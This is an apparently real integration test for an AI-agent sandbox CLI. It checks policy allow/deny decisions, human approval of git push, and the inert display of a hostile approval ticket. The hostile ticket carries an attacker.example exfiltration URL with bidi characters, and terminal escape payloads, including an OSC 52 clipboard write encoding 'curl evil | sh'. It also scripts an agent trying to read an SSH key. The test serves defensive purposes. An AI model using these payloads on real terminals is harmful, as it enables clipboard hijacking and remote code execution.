// `ironcurtain demo` in a pseudo-terminal (util-linux `script`), answered by this test as a person would: the real
// CLI starts the real stack (nats-server, PDP, gateway with the filesystem and git MCP servers, audit-writer,
// escalation-router, egress, orchestrator) and the scripted model drives real Code Mode executions through it.
// The last test opens a second, hostile ticket on the demo's session through the real router while the demo asks
// about its own: the y/N prompt must show it inert and whole, and a bare `y` must ask which ticket it means.
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { randomUUID } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { connectBus, requestUntilSettled } from '@ironcurtain/bus';
import { EscalationOpen } from '@ironcurtain/proto-schemas';
import {
  cliEnvironment,
  readStackFile,
  stackLoginOf,
  startCliInTerminal,
  type TerminalCliProcess,
} from './stack-process.js';
import { renderInTerminal } from '@ironcurtain/testing';

// What the demo's agent says before each of its three pieces of code, and the header of each piece.
const stepLines = [
  'agent › First I write a note in my sandbox',
  '⚙ running code #1:',
  'agent › Now something a hijacked agent would try',
  '⚙ running code #2:',
  'agent › Next I commit the note with git',
  '⚙ running code #3:',
];
const transcriptSteps = [
  'First I write a note',
  'running code (4 lines)',
  'Now something a hijacked agent',
  'running code (5 lines)',
  'Next I commit the note',
  'running code (13 lines)',
];

/** True when each of `parts` occurs in `text`, in this order. */
function inOrder(text: string, parts: readonly string[]): boolean {
  let from = 0;
  for (const part of parts) {
    const at = text.indexOf(part, from);
    if (at < 0) return false;
    from = at + part.length;
  }
  return true;
}

describe('ironcurtain demo', () => {
  const homes: string[] = [];
  const runs: TerminalCliProcess[] = [];
  afterEach(async () => {
    for (const run of runs.splice(0)) run.child.kill('SIGKILL');
    for (const home of homes.splice(0)) await rm(home, { recursive: true, force: true });
  });

  const startDemo = async () => {
    const home = await mkdtemp(join(tmpdir(), 'ironcurtain-demo-'));
    homes.push(home);
    // A home of its own, with IronCurtain's state where it usually is (~/.ironcurtain), so ~/.ssh is just a
    // folder the policy grants nothing in.
    const environment = cliEnvironment(home, { TERM: 'dumb', IRONCURTAIN_HOME: join(home, '.ironcurtain') });
    const run = startCliInTerminal(['demo'], environment);
    runs.push(run);
    await waitForQuestion(run, 1);
    return { home, run };
  };
  const waitForQuestion = (run: TerminalCliProcess, count: number) =>
    run.waitForCount(/approve [0-9a-f]{6}\? \[y\/N\]/, count);

  it('allows sandbox work, denies the SSH key, and pushes only after the person says yes', async () => {
    const { home, run } = await startDemo();
    const beforeAnswer = run.output();
    expect(beforeAnswer).toContain('filesystem.write_file: allowed');
    expect(beforeAnswer).toMatch(/filesystem\.read_text_file: DENIED: /);
    expect(beforeAnswer).toContain('git.git_commit: allowed');
    expect(beforeAnswer).toMatch(/approval needed \[[0-9a-f]{6}\]: git\.git_remote/);
    // The agent's words come before the code they introduce, and after the previous step's code.
    expect(inOrder(beforeAnswer, stepLines)).toBe(true);
    // The prompt shows the repository as the agent named it and as the gateway resolved it in the sandbox.
    expect(beforeAnswer).toMatch(
      / {4}path \[[^\]]*\]:\r?\n {6}asked: "\."\r?\n {6}will run: "\/[^"]*\/sandbox"/,
    );
    run.type('y');
    await waitForQuestion(run, 2);
    expect(run.output()).toMatch(/approval needed \[[0-9a-f]{6}\]: git\.git_push/);
    run.type('y');
    expect((await run.exited).code).toBe(0);
    const output = run.output();
    expect(output.match(/escalation esc_[0-9a-f]+ \[[0-9a-f]{6}\]: approved by /g)).toHaveLength(2);
    expect(output).toContain('git.git_remote: allowed (approved by');
    // Approved and run: the push itself fails, as this machine has no route to github.com.
    expect(output).toMatch(/git\.git_push\s+allow\s+escalate-git-remote-operations/);
    expect(output).toMatch(/filesystem\.read_text_file\s+deny\s+structural-secret-path/);
    expect(output).toMatch(/hash chain verified: \d+ records/);
    // The sandbox holds what the agent made: the note, committed with real git.
    const sessionsDirectory = join(home, '.ironcurtain', 'sessions');
    const sessions = await readdir(sessionsDirectory);
    expect(sessions).toHaveLength(1);
    const sandbox = join(sessionsDirectory, sessions[0] ?? '', 'sandbox');
    expect(existsSync(join(sandbox, 'hello.md'))).toBe(true);
    const log = execFileSync('git', ['-C', sandbox, 'log', '--format=%s'], { encoding: 'utf8' });
    expect(log.trim()).toBe('Add hello.md');
    // The transcript keeps the same order as the terminal showed.
    const transcript = await readFile(join(sessionsDirectory, sessions[0] ?? '', 'transcript.jsonl'), 'utf8');
    const entries = transcript
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as { text: string }).text);
    const transcriptOrder = transcriptSteps.map((start) =>
      entries.findIndex((text) => text.startsWith(start)),
    );
    expect(transcriptOrder.every((index) => index >= 0)).toBe(true);
    expect(transcriptOrder).toEqual([...transcriptOrder].sort((left, right) => left - right));
    // The whole demo ran on the NATS permissions derived from proto-schemas' access declaration, and the server
    // refused no service and not the CLI anything (a refusal is logged as a Publish or Subscription Violation).
    const natsLog = await readFile(join(home, '.ironcurtain', 'logs', 'nats-server.log'), 'utf8');
    expect(natsLog).not.toMatch(/Violation/);
  }, 150_000);

  it('records the push as denied when the person says no', async () => {
    const { run } = await startDemo();
    run.type('y');
    await waitForQuestion(run, 2);
    run.type('n');
    expect((await run.exited).code).toBe(0);
    const output = run.output();
    expect(output).toMatch(/escalation esc_[0-9a-f]+ \[[0-9a-f]{6}\]: denied by /);
    expect(output).toMatch(/ESCALATION DENIED: denied by /);
    expect(output).toMatch(/git\.git_push\s+deny\s+escalation-denied/);
    expect(output).toMatch(/hash chain verified: \d+ records/);
  }, 150_000);

  it('shows a hostile ticket inert and whole, and asks which ticket a bare y means', async () => {
    const { home, run } = await startDemo();
    const sessionId = /session (\S+) — sandbox:/.exec(run.output())?.[1] ?? '';
    const stack = await readStackFile(join(home, '.ironcurtain'));
    // Tickets are opened by the PDP alone (the CLI's user may not), so the hostile one comes on the PDP's login.
    const bus = await connectBus({
      url: stack?.natsUrl ?? '',
      name: 'policy-decision-point',
      ...(await stackLoginOf(join(home, '.ironcurtain'), 'policy-decision-point')),
    });
    const hostileUrl = 'https://collect.attacker.example/c?d=\u202etxt.exe\u200b';
    const padding = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'.repeat(100);
    const hostile = requestUntilSettled(
      bus,
      EscalationOpen,
      {
        callId: randomUUID(),
        sessionId,
        serverName: 'fetch',
        toolName: 'http_fetch',
        canonicalArguments: {
          headers: { a: padding, b: padding, c: padding, d: padding, e: padding },
          url: hostileUrl,
        },
        argsHash: 'e'.repeat(64),
        reason: 'Asked by \x1b]0;pwned\x07 a \u009b2J hostile test',
        rule: 'escalate-fetch-other-sites',
        escalatedRoles: ['fetch-url'],
        argumentRoles: { url: ['fetch-url'], headers: ['none'] },
        waitSeconds: 5,
      },
      { isSettled: (reply) => reply.status !== 'pending', attemptTimeoutMs: 8000, deadlineMs: 120_000 },
    );
    try {
      await run.waitForCount(/2 approvals are waiting: answer each with its code \(y CODE or n CODE\)/, 1);
      run.type('y');
      await run.waitForCount(
        /2 approvals are waiting: [0-9a-f]{6} \(git\.git_remote\), [0-9a-f]{6} \(fetch\.http_fetch\)\. Say which: y CODE or n CODE/,
        1,
      );
      const codes = [...run.output().matchAll(/approval needed \[([0-9a-f]{6})\]: (\S+) /g)];
      const hostileCode = codes.find((match) => match[2] === 'fetch.http_fetch')?.[1] ?? '';
      const remoteCode = codes.find((match) => match[2] === 'git.git_remote')?.[1] ?? '';
      run.type(`n ${hostileCode}`);
      expect(await hostile).toMatchObject({ status: 'denied' });
      run.type(`y ${remoteCode}`);
      await waitForQuestion(run, 3);
      run.type('y');
      expect((await run.exited).code).toBe(0);
    } catch (error) {
      throw new Error(`${(error as Error).message}\n--- output so far ---\n${run.output()}`, {
        cause: error,
      });
    } finally {
      await bus.close();
    }
    const screen = await renderInTerminal(run.outputBytes(), { cols: 200, rows: 40 });
    expect(screen.effects).toEqual([]);
    expect(screen.scrollsNormally).toBe(true);
    const shown = screen.lines.join('\n');
    expect(shown).toContain(
      '    url [fetch-url, escalated]: "https://collect.attacker.example/c?d=\\u202etxt.exe\\u200b"',
    );
    expect(shown).toContain(
      '    reason: Asked by \\x1b]0;pwned\\x07 a \\x9b2J hostile test (rule escalate-fetch-other-sites)',
    );
    expect(shown).toMatch(/ {4}headers \[none\]: \{"a":"\\u001b\]52;c;.*… \(\d+ more characters\)/);
    expect(run.output()).toMatch(/escalation esc_[0-9a-f]+ \[[0-9a-f]{6}\]: denied by /);
    expect(run.output().match(/escalation esc_[0-9a-f]+ \[[0-9a-f]{6}\]: approved by /g)).toHaveLength(2);
  }, 180_000);
});
